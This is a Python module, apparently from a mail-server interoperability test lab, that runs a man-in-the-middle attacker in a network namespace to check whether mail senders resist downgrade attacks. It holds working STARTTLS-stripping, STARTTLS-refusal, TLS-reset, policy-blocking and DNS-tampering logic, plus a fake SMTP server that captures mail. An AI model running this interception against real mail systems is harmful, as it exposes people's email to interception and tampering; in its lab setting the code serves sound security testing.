"""Runs inside a sender's namespace: a man in the middle at every published address, until SIGTERM.

Its listening sockets are in the sender's namespace, which has the published addresses but no lab behind
them; then it enters the lab's namespace, so that what it connects to are the true servers.  Argument: its
plan, a JSON file.  Beside the plan go `ready`, and for SIGUSR1 `taken.json`: the mail that it took itself.
"""

from __future__ import annotations

import ctypes
import json
import os
import signal
import socket
import ssl
import struct
import sys
import threading
from pathlib import Path
from typing import Any

import interop_mta_tampering as tampering

CLONE_NEWNET = 0x40000000
PORT = 25
WAIT = 20.0
CHUNK = 65536
REFUSED = "454 4.7.0 TLS not available due to temporary reason"


def enter(netns: str) -> None:
    """Moves this thread, and those it starts, into the namespace; open sockets stay where they are."""
    libc = ctypes.CDLL(None, use_errno=True)
    with open(netns, "rb") as file:
        if libc.setns(file.fileno(), CLONE_NEWNET) != 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def family(address: str) -> socket.AddressFamily:
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def bound(address: str, port: int) -> socket.socket:
    made = socket.socket(family(address), socket.SOCK_STREAM)
    made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    made.bind((address, port))
    return made


def reset(connection: socket.socket) -> None:
    """Closes with RST."""
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    connection.close()


class Attacker:
    """Everything the plan says."""

    def __init__(self, plan: dict[str, Any]) -> None:
        self.attacks = frozenset(plan["attacks"])
        self.plan = plan
        self.taken: list[dict[str, Any]] = []
        self.poses = plan["poses"]
        self.tls = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        self.tls.load_cert_chain(plan["certificate"])
        self.own = bound(plan["own_address"], PORT)
        self.smtp = {address: bound(address, PORT) for address in plan["smtp"]}
        self.https = {address: bound(address, 443) for address in plan["https"]}
        self.fillers: list[socket.socket] = []
        for address in plan["unreachable"]:
            self.swallow(self.smtp.pop(address))
        self.dns = [self.dns_server(tampering.UdpServer, tampering.Udp)]
        self.dns.append(self.dns_server(tampering.TcpServer, tampering.Tcp))

    def swallow(self, listening: socket.socket) -> None:
        """A full accept queue: the kernel drops each further SYN, so that a connect gets no answer."""
        listening.listen(0)
        self.fillers.append(listening)
        for _ in range(2):
            filler = socket.socket(listening.family, socket.SOCK_STREAM)
            filler.setblocking(False)
            filler.connect_ex(listening.getsockname())
            self.fillers.append(filler)

    def dns_server(self, kind: Any, handler: Any) -> Any:
        server = kind((self.plan["dns"], 53), handler)
        server.upstream = (self.plan["dns"], 53)
        server.attack = tampering.DnsAttack(
            self.attacks,
            frozenset(self.plan["domains"]),
            frozenset(self.plan["hosts"]),
            self.plan["own_host"],
            self.plan["own_address"],
        )
        return server

    def start(self) -> None:
        """Serves; called in the lab's namespace."""
        for server in self.dns:
            threading.Thread(target=server.serve_forever, daemon=True).start()
        self.accept(self.own, self.pose)
        for address, listening in self.smtp.items():
            if self.poses:
                self.accept(listening, self.pose)
            elif answers(address, PORT):
                self.accept(listening, self.relay)
        if "block-policy" not in self.attacks:
            for address, listening in self.https.items():
                if answers(address, 443):
                    self.accept(listening, self.relay)

    def accept(self, listening: socket.socket, serve: Any) -> None:
        listening.listen(64)

        def serve_one(connection: socket.socket) -> None:
            with connection:
                connection.settimeout(WAIT)
                try:
                    serve(connection)
                except (OSError, EOFError):
                    return  # One end is gone: so is this session.

        def forever() -> None:
            while True:
                connection, _ = listening.accept()
                threading.Thread(target=serve_one, args=(connection,), daemon=True).start()

        threading.Thread(target=forever, daemon=True).start()

    # --- between the sender and a true server --------------------------------------------------------

    def relay(self, sender: socket.socket) -> None:
        address, port = sender.getsockname()[:2]
        with socket.create_connection((address, port), WAIT) as server:
            talk = Talk(sender, server, self.attacks if port == PORT else frozenset())
            back = threading.Thread(target=talk.from_server, daemon=True)
            back.start()
            talk.from_sender()
            back.join()

    # --- in the place of a server ----------------------------------------------------------------------

    def pose(self, sender: socket.socket) -> None:
        """A mail server that offers everything and takes everything."""
        session: dict[str, Any] = {"host": "attacker", "address": sender.getsockname()[0], "tls": ""}
        commands: list[str] = []
        stream = sender.makefile("rwb")
        say(stream, "220 mail ESMTP")
        while line := stream.readline():
            commands.append(line.decode("utf-8", "replace").rstrip())
            verb = line.split(None, 1)[0].upper() if line.split() else b""
            if verb == b"EHLO":
                offers = [] if session["tls"] or "strip-starttls" in self.attacks else ["STARTTLS"]
                keywords = ["mail", "8BITMIME", *offers, "SMTPUTF8"]
                say(stream, *(f"250-{word}" for word in keywords[:-1]), f"250 {keywords[-1]}")
            elif verb == b"STARTTLS" and "refuse-starttls" in self.attacks:
                say(stream, REFUSED)
            elif verb == b"STARTTLS":
                say(stream, "220 2.0.0 ready to start TLS")
                if "break-tls" in self.attacks:
                    reset(sender)
                    return
                stream.close()
                sender = self.tls.wrap_socket(sender, server_side=True)
                session["tls"] = sender.version()
                stream = sender.makefile("rwb")
            elif verb == b"DATA":
                say(stream, "354 go on")
                while stream.readline() not in (b".\r\n", b""):
                    continue
                self.taken.append({**session, "commands": list(commands)})
                say(stream, "250 2.0.0 taken")
            elif verb == b"QUIT":
                say(stream, "221 2.0.0 bye")
                sender.close()
                return
            else:
                say(stream, "250 2.0.0 ok")


class Talk:
    """A session that passes through.  STARTTLS is covered, refused or ended with a reset, as the attack
    has it.
    """

    def __init__(self, sender: socket.socket, server: socket.socket, attacks: frozenset[str]) -> None:
        self._sender = sender
        self._server = server
        self._strips = "strip-starttls" in attacks
        self._refuses = "refuse-starttls" in attacks
        self._breaks = "break-tls" in attacks
        self._asked = False

    def from_sender(self) -> None:
        while data := self._sender.recv(CHUNK):
            if self._asked and self._breaks:
                reset(self._server)
                reset(self._sender)
                return
            begins = data.upper().startswith(b"STARTTLS")
            if begins and self._refuses:
                self._sender.sendall(f"{REFUSED}\r\n".encode())
                continue
            self._asked = self._asked or begins
            self._server.sendall(data)
        self._server.shutdown(socket.SHUT_WR)

    def from_server(self) -> None:
        """Ends with the server; what it says arrives in whole lines while words are covered."""
        rest = b""
        try:
            while data := self._server.recv(CHUNK):
                if self._strips:
                    *lines, rest = (rest + data).split(b"\n")
                    data = b"".join(covered(line) + b"\n" for line in lines)
                self._sender.sendall(data)
            self._sender.sendall(rest)
            self._sender.shutdown(socket.SHUT_WR)
        except OSError:
            return  # The other direction has ended the session.


def covered(line: bytes) -> bytes:
    word = line[4:].strip().upper()
    return line[:4] + b"XXXXXXXA\r" if line[:3] == b"250" and word == b"STARTTLS" else line


def say(stream: Any, *lines: str) -> None:
    stream.write("".join(f"{line}\r\n" for line in lines).encode())
    stream.flush()


def answers(address: str, port: int) -> bool:
    """Whether the true server takes connections."""
    try:
        socket.create_connection((address, port), 2.0).close()
    except OSError:
        return False
    return True


def main(file: Path) -> None:
    awaited = {signal.SIGTERM, signal.SIGINT, signal.SIGUSR1}
    signal.pthread_sigmask(signal.SIG_BLOCK, awaited)
    plan = json.loads(file.read_text())
    attacker = Attacker(plan)
    enter(plan["netns"])
    attacker.start()
    file.with_name("ready").touch()
    while signal.sigwait(awaited) == signal.SIGUSR1:
        unfinished = file.with_name("taken.unfinished")
        unfinished.write_text(json.dumps(attacker.taken))
        unfinished.rename(file.with_name("taken.json"))


if __name__ == "__main__":
    main(Path(sys.argv[1]))
